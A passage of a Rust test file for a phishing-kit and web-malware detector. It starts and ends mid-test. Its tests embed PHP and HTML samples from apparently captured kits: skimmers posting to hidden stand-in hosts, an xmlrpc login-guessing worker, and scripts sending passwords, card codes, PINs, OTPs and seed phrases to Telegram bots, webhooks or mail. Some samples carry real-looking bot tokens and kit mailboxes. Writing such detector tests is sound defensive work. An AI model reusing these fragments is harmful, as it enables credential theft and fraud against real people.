    // The site's own title in codes (an accent written as a code) names no provider's sign-in.
    let own = page.replace(&coded, "&#67;&#97;&#102;&#233;&#32;&#76;&#111;&#103;&#105;&#110;");
    assert!(found(&own).is_empty(), "{:?}", found(&own));
    // Written plainly, the title and the kit's visitor filter together tell the same.
    let plain = page.replace(&coded, "Sign in to your Microsoft account");
    assert_eq!(found(&plain), [Why::PhishingBotFilter]);
    let unfiltered = plain.replace("require 'core/blocker.php';", "");
    assert!(found(&unfiltered).is_empty(), "{:?}", found(&unfiltered));
}

#[test]
fn a_whole_request_posted_to_an_address_hidden_in_the_code_is_a_skimmer() {
    let skimmer = "<?php $c = curl_init(base64_decode('aHR0cHM6Ly94LmV4YW1wbGUv'));\n\
                   curl_setopt($c, CURLOPT_POSTFIELDS, json_encode($_REQUEST)); curl_exec($c);";
    assert!(found(skimmer).contains(&Why::SendsRequestToHiddenAddress));
    let by_option = "<?php $u = str_rot13('uggcf://k.rknzcyr/'); $c = curl_init();\n\
                     curl_setopt($c, CURLOPT_URL, $u); $b = file_get_contents('php://input');\n\
                     curl_setopt($c, CURLOPT_POSTFIELDS, $b); curl_exec($c);";
    assert!(found(by_option).contains(&Why::SendsRequestToHiddenAddress));
}

#[test]
fn a_proxy_or_a_plugin_posting_to_a_written_address_is_not_a_skimmer() {
    // The address is the visitor's (a web proxy decodes what it is sent).
    let proxy = "<?php $c = curl_init(); curl_setopt($c, CURLOPT_URL, base64_decode($_GET['u']));\n\
                 curl_setopt($c, CURLOPT_POSTFIELDS, $_POST); echo curl_exec($c);";
    assert!(!found(proxy).contains(&Why::SendsRequestToHiddenAddress));
    // The address is written out (a payment gateway's API).
    let gateway = "<?php $c = curl_init('https://api.gateway.example/charge');\n\
                   curl_setopt($c, CURLOPT_POSTFIELDS, http_build_query($_POST)); curl_exec($c);";
    assert!(!found(gateway).contains(&Why::SendsRequestToHiddenAddress));
    // A hidden address told only the site's name (a licence check), not what visitors send.
    let licence = "<?php $c = curl_init(base64_decode('aHR0cHM6Ly9saWMuZXhhbXBsZS8='));\n\
                   curl_setopt($c, CURLOPT_POSTFIELDS, ['site' => $_SERVER['HTTP_HOST'], 'key' => $_POST['key']]);\n\
                   curl_exec($c);";
    assert!(!found(licence).contains(&Why::SendsRequestToHiddenAddress));
    let asked = "<?php if (!empty($_POST)) { $c = curl_init(base64_decode('aHR0cHM6Ly9saWMuZXhhbXBsZS8='));\n\
                 curl_setopt($c, CURLOPT_POSTFIELDS, ['site' => $_SERVER['HTTP_HOST']]); curl_exec($c); }";
    assert!(!found(asked).contains(&Why::SendsRequestToHiddenAddress));
}

#[test]
fn logins_tried_on_other_sites_xmlrpc_in_parallel_are_an_attack_from_here() {
    // fresh18's worker: a job of sites, users and passwords posted as base64 JSON, each tried
    // with `wp.getUsersBlogs` through `curl_multi`.
    let worker = "<?php $job = json_decode(base64_decode(file_get_contents('php://input')), true); $mh = curl_multi_init(); \
                  foreach ($job['data'] as $i => $d) { $x = '<?xml version=\"1.0\"?><methodCall><methodName>wp.getUsersBlogs</methodName>' \
                  . '<params><param><value><string>' . $d['user'] . '</string></value></param></params></methodCall>'; \
                  $c[$i] = curl_init($d['domain']); curl_setopt($c[$i], CURLOPT_POSTFIELDS, $x); curl_multi_add_handle($mh, $c[$i]); } \
                  do { curl_multi_exec($mh, $run); } while ($run > 0);";
    assert!(found(worker).contains(&Why::NetworkFromInput), "{:?}", found(worker));
    // Near-miss: a client posting to the owner's own blog with the settings' login.
    let client = "<?php $x = '<methodCall><methodName>wp.getUsersBlogs</methodName></methodCall>'; \
                  $c = curl_init(get_option('remote_blog')); curl_setopt($c, CURLOPT_POSTFIELDS, $x); curl_exec($c);";
    assert!(!found(client).contains(&Why::NetworkFromInput), "{:?}", found(client));
}

#[test]
fn a_plain_page_dressed_as_a_provider_posting_its_password_away_is_found() {
    // fresh111's `enter.html`.
    let page = "<html><head><title>Gmail.com</title></head><body>\n\
                <form action=\"http://mail-login.example.ua/post.php\" method=\"post\">\n\
                <input name=\"Email\"><input type=\"password\" name=\"Password\"></form></body></html>";
    assert!(super::page_posts_password_away(page.as_bytes()).is_some());
    // The site's own login posting to itself, and a webmail link page of a host's own name.
    let own = page.replace("http://mail-login.example.ua/post.php", "/login.php");
    assert!(super::page_posts_password_away(own.as_bytes()).is_none());
    let host = page.replace("Gmail.com", "Example Hosting webmail");
    assert!(super::page_posts_password_away(host.as_bytes()).is_none());
    // Regression: fresh124's "Microsoft Login" page keeps its markup in base64 for its script.
    let hidden = "<html><head><title></title></head><body><script>const c = atob(code); const page = \"<head><title>Microsoft Login<\\/title>\";</script></body></html>";
    assert!(super::page_posts_password_away(hidden.as_bytes()).is_some());
    // A site's own sign-in page that decodes a value is not dressed as Microsoft's.
    let own_hidden = hidden.replace("Microsoft Login", "Example Shop Login");
    assert!(super::page_posts_password_away(own_hidden.as_bytes()).is_none());
}

#[test]
fn a_telegram_bots_key_with_its_chat_is_a_kits_settings() {
    // Regression: fresh115's `bot.php` and `config.php` hold where the kit's pages send their
    // victims' data; its `function.php` hides a copy to the kit author's bot in an address.
    let config = "<?php\n$botToken = '7945542556:AAGAeGTHrE0i0YTCWqL4FxlwyWT_urry51M';\n$chatId = '-1003437798866';";
    assert_eq!(whys_of(config), [(Why::ChatBotKey, Danger::Medium)]);
    let defined = "<?php define('TELEGRAM_BOT_TOKEN', '7505568412:AAEwzAw9uUnxgXABFaUVq11-I0xBv36LmTw');\ndefine('TELEGRAM_CHAT_ID', '1794855545');";
    assert_eq!(found(defined), [Why::ChatBotKey]);
    let hidden = "<?php function crypto($b) { file_get_contents(\"https://api.telegram.org/bot793426151:AAEMd4I-Hynamf842tx7leOWhsOQoDBWGB4/sendMessage?chat_id=-1001322216342&text=\" . urlencode($b)); }";
    assert!(found(hidden).contains(&Why::ChatBotKey), "{:?}", found(hidden));
    // Regression: fresh132's Bancolombia kit names its chat a channel (`$canal`): the key
    // alone says where the data goes.
    let channel = "<?php\n$apibot = \"5577598036:AAE7jadrklBB7imUtV34WwRFLzNIH-g7vQA\";\n$canal = \"@Lombardi2022\";";
    assert_eq!(found(channel), [Why::ChatBotKey]);
    // Its BANPRO kit hands its bot's key and chat to the browser, whose script posts to it.
    let handed = "<?php header('Content-Type: application/json'); include 'config.php';\n\
                  echo json_encode([\"token\" => $token, \"chat_id\" => $chat_id, \"ip\" => $_SERVER['REMOTE_ADDR']]);";
    assert_eq!(found(handed), [Why::CredentialCollector]);
    assert!(crate::shapes::may_match(handed.as_bytes()));
    let status = "<?php echo json_encode(['token' => $csrf_token, 'user' => $id]);";
    assert!(found(status).is_empty());
    // A key cut short or run on, a longer number: none is a bot's.
    assert!(found("<?php $chat = 1; $k = '7945542556:AAGAeGTHrE0i0YTCWqL4FxlwyWT_urry5';").is_empty());
    assert!(found("<?php $chat = 1; $k = '7945542556:AAGAeGTHrE0i0YTCWqL4FxlwyWT_urry51Mxx';").is_empty());
    assert!(found("<?php $chat = 1; $k = 'x7945542556:AAGAeGTHrE0i0YTCWqL4FxlwyWT_urry51M';").is_empty());
}

#[test]
fn a_cards_code_or_a_social_security_number_kept_for_the_next_page_is_collected() {
    // Regression: fresh115's USPS and Discover kits keep the card with its CVV, or the SSN, in
    // the session (a file library of the kit's writes it too) and go on to their next step.
    let card = "<?php session_start(); $cvv = $_POST['cvv'] ?? ''; $n = $_POST['cardNumber'] ?? '';\n\
                $_SESSION['payment_info'] = ['cardNumber' => $n, 'cvv' => $cvv]; header('Location: wait.php'); exit;";
    assert_eq!(whys_of(card), [(Why::CredentialCollector, Danger::High)]);
    let ssn = "<?php session_start(); $s = $_POST['ssn_last4'] ?? ''; $_SESSION['discover_ssn4'] = $s; header('Location: step2.php');";
    assert_eq!(found(ssn), [Why::CredentialCollector]);
    let camel = "<?php $c = $_POST['cardCvv']; $_SESSION['c'] = $c;";
    assert_eq!(found(camel), [Why::CredentialCollector]);
    // A shop hands the code on to its payment service; a field whose name only holds the
    // letters (`htaccessnew`) is no code.
    let gateway = "<?php $cvv = $_POST['cvv']; $r = $gateway->charge(['cvv' => $cvv]); header('Location: thanks.php');";
    assert!(found(gateway).is_empty(), "{:?}", found(gateway));
    let editor = "<?php $h = $_POST['htaccessnew']; $_SESSION['saved'] = $h;";
    assert!(found(editor).is_empty());
}

#[test]
fn a_password_labelled_in_spanish_or_a_located_visitor_sent_to_a_chat_bot_is_collected() {
    // Regression: fresh132's BANPRO kit labels the password `Contraseña:` (an accented letter
    // in the label), its fields named `ips1`, `ips2`.
    let banpro = "<?php $usuario = isset($_POST['ips1']) ? htmlspecialchars($_POST['ips1']) : '';\n\
                  $contrasena = isset($_POST['ips2']) ? htmlspecialchars($_POST['ips2']) : '';\n\
                  $mensaje = \"BANPRO LOGIN:\\n\"; $mensaje .= \"👤 Usuario: $usuario\"; $mensaje .= \"\\n🔒 Contraseña: $contrasena\";\n\
                  $url = \"https://api.telegram.org/bot$token/sendMessage\"; $ch = curl_init(); curl_setopt($ch, CURLOPT_URL, $url);\n\
                  curl_setopt($ch, CURLOPT_POSTFIELDS, ['chat_id' => $chat_id, 'text' => $mensaje]); curl_exec($ch); header('Location: 2.html');";
    assert_eq!(found(banpro), [Why::CredentialCollector]);
    // Its Bancolombia pages send one field with the visitor's address and country.
    let located = "<?php $myip = $_SERVER['REMOTE_ADDR'];\n\
                   $meta = unserialize(file_get_contents('http://www.geoplugin.net/php.gp?ip=' . $myip)); $pais = $meta['geoplugin_countryName'];\n\
                   if (isset($_POST['clave'])) { $message = \"Datos:\\r\\nClave: \" . $_POST['clave'] . \"\\r\\nIP \" . $myip . \" \" . $pais;\n\
                   file_get_contents(\"https://api.telegram.org/bot$apiToken/sendMessage?\" . http_build_query(['chat_id' => $canal, 'text' => $message])); }";
    assert_eq!(found(located), [Why::CredentialCollector]);
    // A shop's order notice to its own chat, with the buyer's address but no place looked up.
    let shop = located.replace("geoplugin", "stock");
    assert!(found(&shop).is_empty(), "{:?}", found(&shop));
}

#[test]
fn a_card_pin_or_a_texted_code_sent_to_a_chat_bot_is_collected() {
    // Regression: fresh115's Correos kit sends the card's PIN and the bank's texted code, kept
    // in the session, to Telegram through a function of its own.
    let pin = "<?php $pin = $_POST['pin']; $_SESSION['pin'] = $pin;\n\
               $message = 'pin: ' . $_SESSION['pin'] . ' IP: ' . $_SERVER['REMOTE_ADDR'];\n\
               function send($m, $t, $c) { $url = 'https://api.telegram.org/bot' . $t . '/sendMessage?chat_id=' . $c . '&text=' . urlencode($m);\n\
               $ch = curl_init(); curl_setopt($ch, CURLOPT_URL, $url); return curl_exec($ch); }\n\
               send($message, $bot_token, $rez_chat); header('Location: success.php');";
    assert_eq!(found(pin), [Why::CredentialCollector]);
    let sms = pin.replace("['pin']", "['sms']").replace("'pin: '", "'SMSCODE: '");
    assert_eq!(found(&sms), [Why::CredentialCollector]);
    // An order form's postal code (`pin_code`, India's) sent to the shop's bot is no secret.
    let order = pin.replace("['pin']", "['pin_code']").replace("'pin: '", "'Pin code: '");
    assert!(found(&order).is_empty(), "{:?}", found(&order));
}

#[test]
fn a_library_labelling_passwords_and_card_codes_for_a_chat_bot_is_a_collector() {
    // Regression: fresh115's `file_storage.php` builds each step's message from what the
    // kit's pages hand it and sends it to Telegram.
    let library = "<?php function notify($data) { switch ($data['step']) {\n\
                   case 'login': $message = \"🔐 New Login\\n\" . \"🔑 Password: \" . ($data['pw'] ?? 'N/A') . \"\\n\"; break;\n\
                   case 'card': $message = \"💳 Card\\n\" . \"🔢 CVV: \" . ($data['sec'] ?? 'N/A') . \"\\n\"; break; }\n\
                   $ch = curl_init(); curl_setopt($ch, CURLOPT_URL, \"https://api.telegram.org/bot\" . TOKEN . \"/sendMessage\");\n\
                   curl_setopt($ch, CURLOPT_POSTFIELDS, json_encode(['text' => $message])); curl_exec($ch); }";
    assert_eq!(found(library), [Why::CredentialCollector]);
    // A shop's order notice to its own bot labels no secret.
    let orders = library.replace("Password: ", "Order: ").replace("CVV: ", "Total: ");
    assert!(found(&orders).is_empty(), "{:?}", found(&orders));
    // One kind of secret alone is the other rules' to judge.
    let one = library.replace("CVV: ", "Total: ");
    assert!(found(&one).is_empty(), "{:?}", found(&one));
}

#[test]
fn a_home_page_put_back_from_a_copy_of_no_kind_and_locked_is_a_restorer() {
    // Regression: fresh113's `1359.js` (PHP) puts `index.php` and `.htaccess` back from copies
    // named `index.log` and `htaccess.ed`, then makes them read-only.
    let restorer = "<?php $index = $_SERVER['DOCUMENT_ROOT'] . '/index.php'; $bk = $_SERVER['DOCUMENT_ROOT'] . '/wp-content/themes/t/inc/index.log';\n\
                    if (!file_exists($index) || filesize($index) != filesize($bk)) { @chmod($index, 0644); @unlink($index);\n\
                    @file_put_contents($index, file_get_contents($bk)); @chmod($index, 0444); }";
    assert_eq!(found(restorer), [Why::RestoresFromDisguise]);
    // An installer writing `.htaccess` from its template, left writable.
    let installer = "<?php $to = ABSPATH . '.htaccess'; $from = __DIR__ . '/htaccess.txt'; file_put_contents($to, file_get_contents($from)); chmod($to, 0444);";
    assert!(found(installer).is_empty(), "{:?}", found(installer));
    let unlocked = restorer.replace("@chmod($index, 0444);", "");
    assert!(found(&unlocked).is_empty(), "{:?}", found(&unlocked));
}

#[test]
fn a_page_asking_for_a_wallets_recovery_phrase_is_phishing() {
    // Regression: fresh124's fake MetaMask page stores the phrase in its database; its Phantom
    // page posts `pkey` on.
    let metamask = "<?php if (isset($_POST['submit'])) { $p = $_POST['phrase_recovery']; mysqli_query($con, \"INSERT INTO r VALUES ('$p')\"); } ?>\n\
                    <form method=post><p>Enter your secret recovery phrase of 12 words</p><textarea class=\"form-control\" name=\"phrase_recovery\"></textarea></form>";
    assert_eq!(found(metamask), [Why::PhishingPage]);
    let phantom = "<form action=request/p.php method=post><p>Import an existing wallet with your 12 or 24-word secret recovery phrase.</p>\
                   <textarea name=\"pkey\" placeholder=\"12 or 24 word seed phrase\"></textarea></form>";
    assert!(asks_wallet_phrase(phantom.as_bytes()).is_some());
    // Laravel's maintenance command names a secret phrase and asks for no field; a blog post
    // warns of phrases over its comment form.
    assert!(
        asks_wallet_phrase(b"<?php $this->option('secret'); // the secret phrase that bypasses maintenance mode")
            .is_none()
    );
    let blog = "<p>Never type your recovery phrase into a site.</p><form><textarea name=\"comment\"></textarea></form>";
    assert!(asks_wallet_phrase(blog.as_bytes()).is_none());
    // Regression: fresh159's `eachwallet1.php`: the phrase beside the keystore and the key.
    let tabs = "<button>Phrase</button><button>Keystore JSON</button><button>Private Key</button>\n\
                <form method=post><textarea name=\"phrase\" minlength=\"12\" placeholder=\"Phrase\"></textarea></form>";
    assert!(asks_wallet_phrase(tabs.as_bytes()).is_some());
}

#[test]
fn a_bots_key_printed_into_the_pages_script_is_a_collector() {
    // Regression: fresh124's Canada Post pages have the visitor's browser send the form to
    // Telegram with the key the kit keeps in the session.
    let page = "<?php session_start(); ?><script>const u = `https://api.telegram.org/bot<?php echo $_SESSION['TELEGRAM_BOT_KEY']?>/sendMessage`;\n\
                fetch(u, {method: 'POST', body: JSON.stringify({text: otp.value})});</script>";
    assert_eq!(found(page), [Why::CredentialCollector]);
}

#[test]
fn a_page_written_with_a_line_that_deletes_it_is_a_kits_one_time_page() {
    // Regression: fresh124's AusPost `main.php` writes each visitor a random-named copy of a
    // page that deletes itself once shown.
    let kit = "<?php function createPage($name) { $new = __DIR__ . '/post/' . uniqid() . '-' . rand(0, 99999) . '.php';\n\
               $html = file_get_contents(__DIR__ . \"/post/source/$name.txt\"); $fp = fopen($new, 'w+'); fwrite($fp, $html);\n\
               fwrite($fp, \"<?php unlink(basename(\\$_SERVER['SCRIPT_NAME'])); ?>\"); fclose($fp); return basename($new); }";
    assert_eq!(found(kit), [Why::KitCopier]);
    // An installer deleting its own file is itself, not a page it writes.
    let installer = "<?php file_put_contents('config.php', $settings); unlink(__FILE__);";
    assert!(found(installer).is_empty(), "{:?}", found(installer));
}

#[test]
fn a_step_page_asking_for_a_card_and_its_pin_is_phishing() {
    // The wp2021 capture's Huntington step page: the card, its code, the cash machine's PIN and
    // a social security number, posted to the kit's next file.
    let step = "<form action=\"process3.php\" method=\"post\">\n<input type=\"tel\" name=\"number\" placeholder=\"Card Number\">\n\
                <input type=\"text\" name=\"expiry\">\n<input type=\"tel\" name=\"cvc\" maxlength=\"4\">\n\
                <input type=\"password\" name=\"apin\" maxlength=\"4\">\n<input type=\"text\" name=\"ssn\"></form>";
    assert!(asks_card_and_bank_secret(step.as_bytes()).is_some());
    // A shop's checkout: the card and its code only.
    let shop =
        step.replace("<input type=\"password\" name=\"apin\" maxlength=\"4\">\n<input type=\"text\" name=\"ssn\">", "");
    assert!(asks_card_and_bank_secret(shop.as_bytes()).is_none());
    // A bank's own application form: a social security number, no card code.
    let apply = "<form method=post><input name=\"ssn\"><input name=\"dob\"><input name=\"first_name\"></form>";
    assert!(asks_card_and_bank_secret(apply.as_bytes()).is_none());
}

#[test]
fn a_wallet_drainer_sending_the_secret_words_is_a_collector() {
    // fresh136's drainers: the wallet's name and its recovery phrase mailed, or sent to a chat
    // bot from the page's JSON post.
    let mailed = "<?php\n$phrase = $_POST['phrase'];\n$wallet = $_POST['wallet'];\n$ip = $_SERVER['REMOTE_ADDR'];\n\
                  $msg = \"Wallet: $wallet\\nPhrase: $phrase\\nIP: $ip\\n\";\nmail('drain@example.com', \"New import - $ip\", $msg);\n\
                  header('Location: https://metamask.io');";
    assert_eq!(found(mailed), [Why::CredentialCollector]);
    let bot = "<?php require 'config.php';\nif (isset($_POST['mnemonic'])) {\n\
               $text = \"Seed: \" . $_POST['mnemonic'] . \"\\nIP: \" . $_SERVER['REMOTE_ADDR'];\n\
               file_get_contents('https://api.telegram.org/bot' . $token . '/sendMessage?chat_id=' . $chat . '&text=' . urlencode($text));\n\
               echo json_encode(['ok' => true]); }";
    assert_eq!(found(bot), [Why::CredentialCollector]);
    // A shop's order mail naming the customer's wallet address for a refund: no secret in it.
    let refund = mailed.replace("Phrase: $phrase", "Order: $phrase");
    assert!(found(&refund).is_empty());
}

#[test]
fn a_drainers_logger_keeping_the_secret_words_is_a_collector() {
    // fresh136's MongoDB and file loggers: the phrase kept with the wallet's kind.
    let mongo = "<?php $client = new MongoDB\\Client($uri); $col = $client->drainer->phrases;\n\
                 $col->insertOne(['phrase' => $_POST['phrase'], 'type' => $_POST['walletType'], 'ip' => $_SERVER['REMOTE_ADDR']]);";
    assert!(keeps_wallet_secret(mongo.as_bytes()).is_some());
    let file = "<?php $data = json_decode(file_get_contents('php://input'), true);\n\
                file_put_contents('logs/wallets.txt', $data['mnemonic'] . ' | ' . $data['wallet'] . \"\\n\", FILE_APPEND);";
    assert!(keeps_wallet_secret(file.as_bytes()).is_some());
    // A search for a phrase on a wallet maker's shop: no secret field.
    let search = "<?php $q = $_GET['q']; $rows = $db->query('SELECT * FROM wallets WHERE name LIKE ?');";
    assert!(keeps_wallet_secret(search.as_bytes()).is_none());
}

#[test]
fn a_kits_settings_file_holding_only_its_mailbox_is_found() {
    // The wp2021 captures' kit settings files.
    for src in [
        "<?php \n$Receive_email=\"mapbay@protonmail.com\";\n?>",
        "<?php\n\n$email = \"one@gmail.com, two@yandex.com\"; // PUT UR E-MAIL\n\n?>",
        "<?php\n$to  = 'staylow@yandex.com';\n$redirect = 'https://outlook.office.com/owa';\n?>\n",
        "<?php\n$email = \"luccy@protonmail.com\";\n\n\n?>\n",
    ] {
        assert!(kit_mailbox(src.as_bytes()).is_some(), "{src}");
    }
    // A contact form's settings: the owner's address among its other settings, or alone under
    // an ordinary name; and a file that does anything else.
    for src in [
        "<?php\n$to = 'owner@gmail.com';\n?>",
        "<?php\n$to = 'owner@gmail.com';\n$subject = 'Website enquiry';\n$thanks = 'thanks.html';\n$smtp = 'mail.example.com';\n$port = '587';\n",
        "<?php\n$to = 'results@gmail.com';\nmail($to, 'x', 'y');\n",
    ] {
        assert!(kit_mailbox(src.as_bytes()).is_none(), "{src}");
    }
}

#[test]
fn a_pin_and_a_one_time_code_put_in_a_chat_bots_message_are_collected() {
    // fresh142's DANA kit: the values are a function's parameters, handed by the kit's pages.
    let src = "<?php function send_to_telegram($nomor, int $pin, int $otp) { include __DIR__ . '/config.php';\n\
               $token = $config['telegram_bot_token']; $chat_id = $config['chat_id'];\n\
               $message = \"Nomor: $nomor\\nPin: $pin\\nOtp: $otp\";\n$ch = curl_init();\n\
               curl_setopt($ch, CURLOPT_URL, \"https://api.telegram.org/bot\" . $token . \"/sendMessage\");\n\
               curl_setopt($ch, CURLOPT_POSTFIELDS, \"chat_id=\" . $chat_id . \"&text=\" . $message); curl_exec($ch); }";
    assert_eq!(found(src), [Why::CredentialCollector]);
    // An order notice to the owner's bot: no secret in it.
    let order = src.replace("Pin: $pin\\nOtp: $otp", "Order: $pin\\nTotal: $otp");
    assert!(found(&order).is_empty());
}

#[test]
fn a_copier_naming_each_visitors_folder_by_the_clock_is_a_kit_copier() {
    // fresh142's PayPal kit `dir_copy.php`.
    let src = "<?php include('anti/anti.php'); $date = new DateTime('NOW'); $FOL = md5($date->format('m-d-Y H:i:s.u'));\n\
               $YSS = 'app'; copyx($YSS, $FOL); header(\"location: $FOL\");\n\
               function copyx($s, $d) { $dir = opendir($s); @mkdir($d); while (false !== ($f = readdir($dir))) {\n\
               if ($f != '.' && $f != '..') { if (is_dir($s . '/' . $f)) { copyx($s . '/' . $f, $d . '/' . $f); } else { copy($s . '/' . $f, $d . '/' . $f); } } } closedir($dir); }";
    assert_eq!(found(src), [Why::KitCopier]);
}

#[test]
fn a_card_code_kept_in_the_session_is_a_kit_step() {
    // fresh142's Netflix kit's `next.inc.php`.
    let step = "<?php session_start();\nif (isset($_POST['start'])) {\n\t$_SESSION[\"cn\"] = $_POST['cn'];\n\t$_SESSION[\"exp_dt\"] = $_POST['exp_dt'];\n\t$_SESSION[\"cvv\"] = $_POST['cvv'];\n\theader('Location: payment.php');\n}\n";
    assert!(keeps_card_code(step.as_bytes()).is_some());
    let copied = "<?php $d = $_POST; $_SESSION['card']['code'] = $d['card_cvc'];";
    assert!(keeps_card_code(copied.as_bytes()).is_some());
    // A checkout keeps the card's last digits or its brand, or a coupon code; not its code.
    for src in [
        "<?php $_SESSION['last4'] = substr($_POST['cn'], -4); $_SESSION['brand'] = $_POST['brand'];",
        "<?php $_SESSION['coupon'] = $_POST['coupon_code'];",
        "<?php $cvv = $_POST['cvv']; $gateway->charge($_POST['cn'], $cvv);",
    ] {
        assert!(keeps_card_code(src.as_bytes()).is_none(), "{src}");
    }
}

#[test]
fn a_page_dressed_as_the_visitors_own_mail_provider_is_a_lure() {
    // fresh146's random-named webmail lure.
    let lure = "<?php include \"antibot.php\";\n$eadd = base64_decode($_GET['a']);\n$dom = explode(\"@\", $eadd);\n\
                $domain = $dom['1']; $fav = $domain;\nif (stripos($domain, 'gmail.com') !== false) { $image = \"ico/gm.ico\"; }\n\
                else { $image = \"http://\".$fav.\"/favicon.ico\"; }\n?><img src=\"<?php echo $image; ?>\"><input type=\"password\" name=\"pass\">";
    assert!(dressed_as_visitors_provider(lure.as_bytes()).is_some());
    // A bookmark list shows each saved site's icon; a profile page splits an address it holds.
    let marks = "<?php foreach ($links as $l) { $host = parse_url($l['url'], PHP_URL_HOST); echo '<img src=\"https://' . $host . '/favicon.ico\">'; }";
    assert!(dressed_as_visitors_provider(marks.as_bytes()).is_none());
    let profile = "<?php $u = get_user($_GET['id']); list($name, $dom) = explode('@', $u->email); echo '<link rel=\"icon\" href=\"/favicon.ico\">';";
    assert!(dressed_as_visitors_provider(profile.as_bytes()).is_none());
}

#[test]
fn a_kits_settings_switching_its_steps_beside_a_mailbox_are_found() {
    // fresh140's `Config.php` and fresh142's CRACKERZ `config.php`.
    let config = "<?php\nrequire_once __DIR__.'/functions/PHPMailer-master/PHPMailerAutoload.php';\n$to = 'email@gmail.com';\n\
                  $SETTING_SAFE = 1; // warning page\n$SETTING_VBV = 1; // vbv\n$SETTING_BANK = 1;\n$SETTING_IDENTITY = 1;\n";
    assert!(kit_mailbox(config.as_bytes()).is_some());
    let crackerz = "<?php\n\t$sp_name = \"CRACKERZ\";\n\t$send_email = \"youremail@gmail.com\";\n\t$secure_page = true;\n\t$bank_page = true;\n\t$identity_page = false;\n";
    assert!(kit_mailbox(crackerz.as_bytes()).is_some());
    // A shop's settings: its own address, one payment switch.
    let shop =
        "<?php\n$admin_mail = 'shop.owner@gmail.com';\n$bank_transfer = true;\n$currency = 'EUR';\n$tax = 0.25;\n";
    assert!(kit_mailbox(shop.as_bytes()).is_none());
}

#[test]
fn visitors_sent_to_an_address_hidden_in_rot13_are_a_doorways_remote() {
    // fresh152's `___php_http_request` in front of Joomla's `defines.php`.
    let src = "<?php class R { function request($u, $p) { $h = curl_init($u); curl_setopt($h, CURLOPT_POSTFIELDS, $p); return curl_exec($h); } }\n\
               $post = array('REMOTE_ADDR' => $_SERVER['REMOTE_ADDR'], 'HTTP_USER_AGENT' => $_SERVER['HTTP_USER_AGENT']);\n\
               $req = new R(); echo $req->request(str_rot13('uggc://fho026.choyvpqaffreire.bet/etj.cuc'), $post);";
    assert_eq!(found(src), [Why::SendsRequestToHiddenAddress]);
    let plain =
        src.replace("str_rot13('uggc://fho026.choyvpqaffreire.bet/etj.cuc')", "'https://stats.example.org/hit'");
    assert!(found(&plain).is_empty(), "{:?}", found(&plain));
}

#[test]
fn a_card_and_its_code_asked_under_a_brands_title_is_a_kit_step() {
    // fresh150's Venmo `card.php`.
    let page = "<?php require 'main.php'; ?><!DOCTYPE html><html><head><title>Venmo</title></head><body>\n\
                <form action=\"post.php\" method=\"post\"><input type=\"text\" name=\"cc\"><input type=\"text\" name=\"exp\">\n\
                <input type=\"text\" name=\"cvv\"></form></body></html>";
    assert!(asks_card_and_bank_secret(page.as_bytes()).is_some());
    // A shop's own checkout, named for the shop.
    let shop = page.replace("<title>Venmo</title>", "<title>Checkout - Lisa's Bakery</title>");
    assert!(asks_card_and_bank_secret(shop.as_bytes()).is_none());
}

#[test]
fn a_brands_sign_in_page_that_logs_its_visitors_is_a_kit_page() {
    // fresh150's French PayPal page: each visitor's address logged, the listed ones sent away.
    let page = "<?php $ip = $_SERVER['REMOTE_ADDR']; file_put_contents('Panel/logs.txt', \">>> $ip\\n\", FILE_APPEND);\n\
                echo '<html><head><title>Connectez-vous à votre compte PayPal</title></head><body>\n\
                <form method=\"post\" action=\"login.php\"><input type=\"email\" name=\"e\"><input type=\"password\" name=\"p\"></form>';";
    assert_eq!(found(page), [Why::PhishingPage]);
    // A site's own sign-in page that logs its visitors, named for the site.
    let own = page.replace("compte PayPal", "compte Boulangerie Martin");
    assert!(found(&own).is_empty(), "{:?}", found(&own));
    // A PayPal-titled page that keeps no record of who comes (a plugin's settings screen).
    let quiet = page.replace("file_put_contents('Panel/logs.txt', \">>> $ip\\n\", FILE_APPEND);", "");
    assert!(found(&quiet).is_empty(), "{:?}", found(&quiet));
}

#[test]
fn a_code_sent_through_the_kits_own_chat_helper_is_collected() {
    // Regression: fresh164's Netflix kit sends each step through `sendMessage()`, kept in its
    // `functions.php`, the code under a heading of a tree of values.
    let step = "<?php include 'functions.php'; $verification_code = isset($_POST['code']) ? htmlspecialchars($_POST['code']) : '';\n\
                $m = \"NEW SMS VERIFICATION\\n\\n🕹️ Verification Code:\\n\\n└ <code>{$verification_code}</code>\\n\";\n\
                if (sendMessage($m)) { error_log('Verification code sent to Telegram successfully.'); header('Location: loading2.php'); exit(); }";
    assert_eq!(found(step), [Why::CredentialCollector]);
    // A chat helper named for the chat.
    let named = step.replace("sendMessage($m)", "send_to_telegram($m)").replace("Telegram", "the group");
    assert_eq!(found(&named), [Why::CredentialCollector]);
    // A `sendMessage` in a file that names no chat service (an SMS gateway's).
    let sms = step.replace("Telegram", "the gateway");
    assert!(found(&sms).is_empty(), "{:?}", found(&sms));
}

#[test]
fn credentials_posted_to_a_discord_webhook_are_collected() {
    // Regression: fresh164's LandBank kit.
    let login = "<?php $username = $_POST['loginid']; $password = $_POST['uipassword'];\n\
                 $hook = \"https://discord.com/api/webhooks/1394689160601669787/pkXOqq\";\n\
                 $payload = json_encode(['description' => \"Username : $username\\nPassword : $password\"]);\n\
                 @file_get_contents($hook, false, stream_context_create(['http' => ['method' => 'POST', 'content' => $payload]]));\n\
                 header('Location: otp.php'); exit;";
    assert!(crate::shapes::may_match(login.as_bytes()));
    assert_eq!(found(login), [Why::CredentialCollector]);
}

#[test]
fn a_message_about_the_victim_sent_away_is_a_collector() {
    // Regression: fresh164's wallet kit's `function.php`.
    let send = "<?php function send($info, $to, $subject) { $x = \"[ BLOCKCHAIN INFORMATION ]<br>\";\n\
                foreach ($info as $k => $v) { $x .= \"|$k: \" . $v . \"<br>\"; }\n\
                $x .= \"[ VICTIM INFORMATION ]<br>|Browser: \" . $_SERVER['HTTP_USER_AGENT'];\n\
                mail($to, $subject, $x, 'From: Mr.Undetected'); }";
    assert_eq!(found(send), [Why::CredentialCollector]);
    // A victim-support charity's form, mailing the visitor's own words.
    let charity =
        "<?php $m = 'Support request: ' . $_POST['story']; mail('help@charity.example', 'Victim support', $m);";
    assert!(found(charity).is_empty(), "{:?}", found(charity));
}

#[test]
fn a_card_and_its_code_sent_to_a_chat_bot_are_collected() {
    // Regression: fresh168's Avito scam kit's `callback.php` (labels in Russian).
    let callback = "<?php include 'send.php'; $r = json_decode(file_get_contents('php://input'), true);\n\
                    $card_number = $r['data']['card_number']; $card_code = $r['data']['card_cvc'];\n\
                    $message = \"Номер карты: *\" . $card_number . \"*\\nКод CVC: *\" . $card_code . \"*\"; telegram_send($message, 'personal');";
    assert_eq!(found(callback), [Why::CredentialCollector]);
